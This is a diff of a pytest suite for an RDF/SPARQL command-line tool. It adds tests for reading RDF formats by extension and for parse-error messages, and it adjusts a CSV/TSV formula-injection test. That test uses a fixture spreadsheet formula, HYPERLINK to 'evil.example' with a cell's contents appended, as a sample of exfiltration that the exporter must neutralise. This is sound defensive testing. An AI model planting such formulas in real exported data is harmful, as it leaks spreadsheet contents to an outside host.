@@ -204,7 +204,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 @pytest.mark.parametrize("fmt, sep", [("csv", ","), ("tsv", "\t")])
 def test_formulas_are_neutralised_in_csv_and_tsv(tmp_path, fmt, sep):
     data = tmp_path / "names.ttl"
-    names = [FORMULA, "+1", "-2+3", "@SUM(A1)", "\tTAB", "plain"]
+    names = [FORMULA, "+1", "-2+3", "@SUM(A1)", "\tTAB", "-"]
     data.write_text("".join(f'<http://example.org/p{i}> <http://example.org/name> {json.dumps(n)} ; '
                             f'<http://example.org/n> {-i} .\n' for i, n in enumerate(names)), encoding="utf-8")
     query = tmp_path / "names.rq"
@@ -215,7 +215,7 @@ def test_formulas_are_neutralised_in_csv_and_tsv(tmp_path, fmt, sep):
     import io
 
     rows = list(csv.reader(io.StringIO(result.stdout), delimiter=sep))
-    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "'+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "plain"]
+    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "'+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "-"]
     assert [r[1] for r in rows[1:]] == ["0", "-1", "-2", "-3", "-4", "-5"]  # numbers stay numbers
 
 
@@ -420,3 +420,58 @@ def test_evidence_must_be_a_web_address(tmp_path, iri):
     assert "A dcterms:source must be an http(s) web address" in result.stdout
     ok = kb("validate", "--with-kb", fixture)
     assert "A dcterms:source must be an http(s) web address" not in ok.stdout
+
+
+# --- every RDF format by its extension ----------------------------------------------------------
+
+def _datasets(tmp_path):
+    """The same two facts, one of them in the named graph <http://example.org/g>, in each format."""
+    import pyoxigraph as ox
+
+    ex = "http://example.org/"
+    quads = [ox.Quad(ox.NamedNode(ex + "a"), ox.NamedNode(ex + "name"), ox.Literal("Almelo")),
+             ox.Quad(ox.NamedNode(ex + "b"), ox.NamedNode(ex + "name"), ox.Literal("Denizli"), ox.NamedNode(ex + "g"))]
+    files = {}
+    for suffix, fmt in ((".trig", ox.RdfFormat.TRIG), (".nq", ox.RdfFormat.N_QUADS), (".jsonld", ox.RdfFormat.JSON_LD)):
+        files[suffix] = tmp_path / f"links{suffix}"
+        files[suffix].write_bytes(ox.serialize(quads, format=fmt))
+    triples = [ox.Triple(q.subject, q.predicate, q.object) for q in quads]
+    for suffix, fmt in ((".nt", ox.RdfFormat.N_TRIPLES), (".rdf", ox.RdfFormat.RDF_XML), (".ttl", ox.RdfFormat.TURTLE)):
+        files[suffix] = tmp_path / f"links{suffix}"
+        files[suffix].write_bytes(ox.serialize(triples, format=fmt))
+    return files
+
+
+@pytest.mark.parametrize("suffix", [".ttl", ".nt", ".nq", ".trig", ".jsonld", ".rdf"])
+def test_every_rdf_format_is_read_by_its_extension(tmp_path, suffix):
+    path = _datasets(tmp_path)[suffix]
+    result = kb("--data", path, "sparql", "-", "--format", "csv",
+                input="SELECT ?name WHERE { ?s <http://example.org/name> ?name } ORDER BY ?name")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.splitlines() == ["name", "Almelo", "Denizli"]
+
+
+@pytest.mark.parametrize("suffix", [".nq", ".trig", ".jsonld"])
+def test_named_graphs_are_kept(tmp_path, suffix):
+    path = _datasets(tmp_path)[suffix]
+    result = kb("--data", path, "sparql", "-", "--format", "csv",
+                input="SELECT ?g ?name WHERE { GRAPH ?g { ?s <http://example.org/name> ?name } }")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.splitlines() == ["g,name", "http://example.org/g,Denizli"]
+
+
+def test_a_folder_of_mixed_formats(tmp_path):
+    _datasets(tmp_path)
+    result = kb("--data", tmp_path, "sparql", "-", "--format", "csv",
+                input="SELECT (COUNT(*) AS ?n) WHERE { ?s <http://example.org/name> ?name }")
+    assert result.stdout.splitlines() == ["n", "2"]
+
+
+@pytest.mark.parametrize("suffix, name", [(".trig", "TriG"), (".nq", "N-Quads"), (".nt", "N-Triples")])
+def test_parse_errors_name_the_format(tmp_path, suffix, name):
+    path = tmp_path / f"broken{suffix}"
+    path.write_text("<http://example.org/a> <http://example.org/b> \"open\n", encoding="utf-8")
+    result = kb("--data", path, "query", "themes")
+    assert result.exit_code == 1
+    assert f"{name} syntax error" in result.stderr and str(path) in result.stderr
+    assert len(result.stderr.strip().splitlines()) == 1
